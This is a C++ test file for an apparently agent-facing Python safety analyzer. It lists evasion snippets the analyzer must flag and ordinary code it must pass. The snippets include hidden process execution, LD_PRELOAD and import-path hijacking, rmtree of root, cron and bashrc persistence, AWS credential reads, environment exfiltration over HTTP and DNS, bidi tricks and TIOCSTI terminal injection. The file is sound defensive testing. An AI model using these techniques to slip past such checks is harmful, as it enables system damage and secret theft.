// Issue 20's evasion families, rule by rule: a snippet that fires (with the rule, its severity in
// the standard policy and a finding that keeps position, message and hint) and a near miss of
// ordinary code that must stay silent.

#include "agentrun/safety/analyzer.h"

#include <QTest>

using namespace agentrun::safety;

namespace {

QString describe(const Report& report)
{
    QStringList parts;
    for (const auto& f : report.findings)
        parts << QStringLiteral("%1:%2:%3 %4 %5")
                     .arg(QString::fromStdString(f.rule))
                     .arg(f.line)
                     .arg(f.column)
                     .arg(QString::fromStdString(std::string(toString(f.severity))))
                     .arg(QString::fromStdString(f.message));
    return parts.join(QStringLiteral(" | "));
}

} // namespace

class TestEvasion : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void fires_data();
    void fires();
    void nearMisses_data();
    void nearMisses();
    void loneCarriageReturnIsALineBreak();
    void literalCodeStringsAreAnalysed();
};

void TestEvasion::fires_data()
{
    QTest::addColumn<QString>("code");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<QString>("severity");
    auto row = [](const char* name, const char* code, const char* rule, const char* severity = "block") {
        QTest::newRow(name) << QString::fromUtf8(code) << QString::fromUtf8(rule)
                            << QString::fromUtf8(severity);
    };
    // name-resolution: literal names are followed, computed ones blocked
    row("pydoc-locate", "import pydoc\npydoc.locate('os.system')('id')", "name-resolution");
    row("pkgutil-colon", "import pkgutil\nf = pkgutil.resolve_name('subprocess:getoutput')\nf('id')",
        "process-exec");
    row("pkgutil-computed", "import pkgutil\npkgutil.resolve_name(input())()", "name-resolution");
    row("dictconfig-factory",
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
        "'os.system'}}})",
        "name-resolution");
    row("attrgetter-call", "import operator, os\noperator.attrgetter('path.os.system')(os)('id')",
        "process-exec");
    // dynamic-code through stdlib sinks: literal strings analysed, computed ones blocked
    row("timeit-literal", "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)",
        "process-exec");
    row("timeit-computed", "import timeit, sys\ntimeit.timeit(sys.argv[1])", "dynamic-code");
    row("cprofile-method", "import cProfile\ncProfile.Profile().run(\"import os; os.system('id')\")",
        "process-exec");
    row("annotation",
        "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)",
        "process-exec");
    row("doctest", "import doctest\n'''\n>>> __import__('os').system('id')\n'''\ndoctest.testmod()",
        "process-exec");
    row("fileconfig", "import logging.config\nlogging.config.fileConfig('x.ini')", "dynamic-code");
    // import-path
    row("sys-path-insert", "import sys\nsys.path.insert(0, '/tmp/x')", "import-path");
    row("sys-path-slice", "import sys\nsys.path[:0] = ['/tmp/x']", "import-path");
    row("sys-path-iadd", "import sys\nsys.path += ['/tmp/x']", "import-path");
    row("meta-path", "import sys\nsys.meta_path.append(object())", "import-path");
    row("pythonpath", "import os\nos.environ['PYTHONPATH'] = '/tmp/x'", "import-path");
    row("putenv-preload", "import os\nos.putenv('LD_PRELOAD', '/tmp/x.so')", "import-path");
    row("pth", "open('/usr/lib/python3/dist-packages/x.pth', 'w')", "import-path");
    // runtime-install
    row("pip", "import pip\npip.main(['install', 'x'])", "runtime-install");
    row("ensurepip", "from ensurepip import bootstrap\nbootstrap()", "runtime-install");
    // system-path-write
    row("rmtree-root", "import shutil\nshutil.rmtree('/')", "system-path-write");
    row("cron", "with open('/etc/cron.d/job', 'w') as f:\n    f.write('x')", "system-path-write");
    row("pathlib-join", "from pathlib import Path\n(Path('/etc') / 'profile.d' / 'x.sh').write_text('id')",
        "system-path-write");
    row("bashrc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "system-path-write");
    row("tar-member", "import tarfile\ntarfile.TarInfo('../../etc/passwd')", "system-path-write");
    row("tar-fully-trusted", "import tarfile\ntarfile.open('a.tar').extractall(filter='fully_trusted')",
        "system-path-write");
    // secret-access (warn)
    row("aws", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
        "secret-access", "warn");
    row("walk-root", "import os\nfor r, d, f in os.walk('/'):\n    pass", "secret-access", "warn");
    row("rglob-home", "from pathlib import Path\nlist(Path.home().rglob('*.pem'))", "secret-access", "warn");
    // exfiltration
    row("dns-built", "import socket, os\nsocket.gethostbyname(os.environ['K'] + '.x.example')",
        "exfiltration");
    row("post-env", "import requests, os\nrequests.post('http://x', json=dict(os.environ))", "exfiltration");
    // source-hiding
    row("coding-utf7", "# coding: utf-7\nprint(1)\n", "source-hiding");
    row("bidi", "x = '\u202e'\n", "source-hiding");
    row("lone-cr", "x = 1 # note\rimport os\n", "source-hiding");
    // debugger
    row("breakpoint", "breakpoint()", "debugger");
    row("pdb", "import pdb\npdb.set_trace()", "debugger");
    row("breakpointhook", "import sys\nsys.breakpointhook = print", "debugger");
    // terminal-injection
    row("tiocsti", "import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, 'x')", "terminal-injection");
    row("tiocsti-number", "import fcntl\nfcntl.ioctl(0, 0x5400 + 0x12, 'x')", "terminal-injection");
    row("osc52", "print('\\x1b]52;c;aWQK\\x07')", "terminal-injection");
    // values followed into lambdas, functions, loops and match captures
    row("iife", "import os\n(lambda o: o.system('id'))(os)", "process-exec");
    row("iife-default", "import os\n(lambda o=os: o.system('id'))()", "process-exec");
    row("def-param", "import subprocess\ndef go(m):\n    m.run(['id'])\ngo(subprocess)", "process-exec");
    row("for-literal", "import os\nfor m in [os]:\n    m.system('id')", "process-exec");
    row("match-capture", "import os\nmatch os:\n    case m:\n        m.system('id')", "process-exec");
    row("match-keyword", "import os\nmatch os:\n    case object(system=s):\n        s('id')", "process-exec");
    row("iife-star-args", "import os\n(lambda *a: a[0].system('id'))(os)", "process-exec");
    row("star-args-function",
        "import subprocess\ndef go(x, *rest):\n    rest[1].run(['id'])\n"
        "go(1, 2, subprocess)",
        "process-exec");
    row("with-nullcontext",
        "import os, contextlib\nwith contextlib.nullcontext(os) as m:\n    m.system('id')", "process-exec");
}

void TestEvasion::fires()
{
    QFETCH(QString, code);
    QFETCH(QString, rule);
    QFETCH(QString, severity);
    const Report report = analyze(code.toStdString(), *Policy::preset("standard"));
    const Finding* found = nullptr;
    for (const auto& f : report.findings)
        if (f.rule == rule.toStdString())
            found = &f;
    QVERIFY2(found, qPrintable(describe(report)));
    QCOMPARE(QString::fromStdString(std::string(toString(found->severity))), severity);
    QVERIFY(found->line >= 1 && found->column >= 1);
    QVERIFY(!found->message.empty());
    QVERIFY2(!found->hint.empty(), found->rule.c_str());
    QCOMPARE(report.allowed, severity != QStringLiteral("block"));
}

void TestEvasion::nearMisses_data()
{
    QTest::addColumn<QString>("code");
    auto row = [](const char* name, const char* code) { QTest::newRow(name) << QString::fromUtf8(code); };
    row("pydoc-locate-json", "import pydoc\nprint(pydoc.locate('json.dumps')({'a': 1}))");
    row("dictconfig-stream", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': "
                             "{'c': {'class': 'logging.StreamHandler', 'stream': 'ext://sys.stdout'}}})");
    row("timeit-callable", "import timeit\nprint(timeit.timeit(lambda: sorted(range(100)), number=10))");
    row("timeit-harmless-literal", "import timeit\nprint(timeit.timeit('sorted(range(100))', number=10))");
    row("cprofile-enable", "import cProfile\np = cProfile.Profile()\np.enable()\np.disable()");
    row("forward-ref", "from __future__ import annotations\nclass T:\n    def f(self) -> 'T': return self\n"
                       "def g(x: 'list[T]') -> 'dict[str, T]': return {}");
    row("doctest-harmless", "def sq(x):\n    '''\n    >>> sq(3)\n    9\n    '''\n    return x * x\n"
                            "import doctest\ndoctest.testmod()");
    row("sys-path-read", "import sys\nprint(sys.path[0], len(sys.path))");
    row("environ-get", "import os\nkey = os.environ.get('OPENAI_API_KEY')\nos.environ['MPLBACKEND'] = 'Agg'");
    row("rmtree-build", "import shutil\nshutil.rmtree('build', ignore_errors=True)");
    row("tmp-write", "with open('/tmp/out.txt', 'w') as f:\n    f.write('x')");
    row("mnt-data", "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv('/mnt/data/out.csv')\n"
                    "open('/mnt/data/r.txt', 'w').write('x')");
    row("etc-read", "print(open('/etc/hostname').read())");
    row("tar-data-filter",
        "import tarfile\nwith tarfile.open('d.tar') as t:\n    t.extractall('d', filter='data')");
    row("torch-save-pth", "import torch\ntorch.save({}, 'model.pth')\ntorch.load('model.pth')");
    row("home-cache",
        "from pathlib import Path\nd = Path.home() / '.cache' / 'app'\nd.mkdir(parents=True, exist_ok=True)\n"
        "(d / 'state.json').write_text('{}')");
    row("home-config", "from pathlib import Path\nprint((Path.home() / '.myapp.json').exists())");
    row("walk-cwd", "import os\nfor r, d, f in os.walk('.'):\n    print(r)");
    row("dns-literal", "import socket\nprint(socket.gethostbyname('localhost'))");
    row("post-token", "import requests, os\nrequests.post('https://api.example/v1', "
                      "headers={'Authorization': f\"Bearer {os.environ['TOKEN']}\"}, json={'q': 1})");
    row("coding-utf8", "# -*- coding: utf-8 -*-\nprint('é')\n");
    row("crlf", "x = 1\r\ny = 2\r\n");
    row("ioctl-winsize",
        "import fcntl, termios, struct\nfcntl.ioctl(1, termios.TIOCGWINSZ, struct.pack('HHHH', 0, 0, 0, 0))");
    row("ansi-colour", "print('\\x1b[31mred\\x1b[0m')");
    row("iife-data", "print((lambda x, y: x * y)(3, 4))");
    row("star-args-other-position",
        "import os\ndef show(*parts):\n    return parts[0].upper()\nshow('a', os)");
    row("match-data",
        "match {'a': 1}:\n    case {'a': v}:\n        print(v)\n    case other:\n        print(other)");
    row("getattr-append", "xs = []\ngetattr(xs, 'append')(1)\ngetattr(xs, 'insert')(0, 2)");
}

void TestEvasion::nearMisses()
{
    QFETCH(QString, code);
    const Report report = analyze(code.toStdString(), *Policy::preset("standard"));
    QVERIFY2(report.allowed, qPrintable(describe(report)));
    for (const auto& f : report.findings)
        QVERIFY2(f.severity == Severity::Info, qPrintable(describe(report)));
}

void TestEvasion::loneCarriageReturnIsALineBreak()
{
    // Python ends the comment at the lone CR: the call after it runs, so the check must see it.
    const Report report =
        analyze("x = 1  # harmless\rimport os; os.system('id')\n", *Policy::preset("standard"));
    bool exec = false;
    for (const auto& f : report.findings)
        exec = exec || f.rule == "process-exec";
    QVERIFY2(exec, qPrintable(describe(report)));
}

void TestEvasion::literalCodeStringsAreAnalysed()
{
    // The finding inside the string names the sink and the inner line.
    const Report report = analyze("import timeit\ntimeit.timeit('x = 1\\n__import__(\"os\").system(\"id\")')",
                                  *Policy::preset("standard"));
    QVERIFY(!report.allowed);
    QCOMPARE(report.findings.size(), std::size_t(1));
    QCOMPARE(report.findings[0].line, 2);
    QVERIFY2(report.findings[0].message.find("`timeit.timeit`") != std::string::npos,
             report.findings[0].message.c_str());
    QVERIFY2(report.findings[0].message.find("line 2") != std::string::npos,
             report.findings[0].message.c_str());
}

QTEST_APPLESS_MAIN(TestEvasion)
#include "tst_evasion.moc"
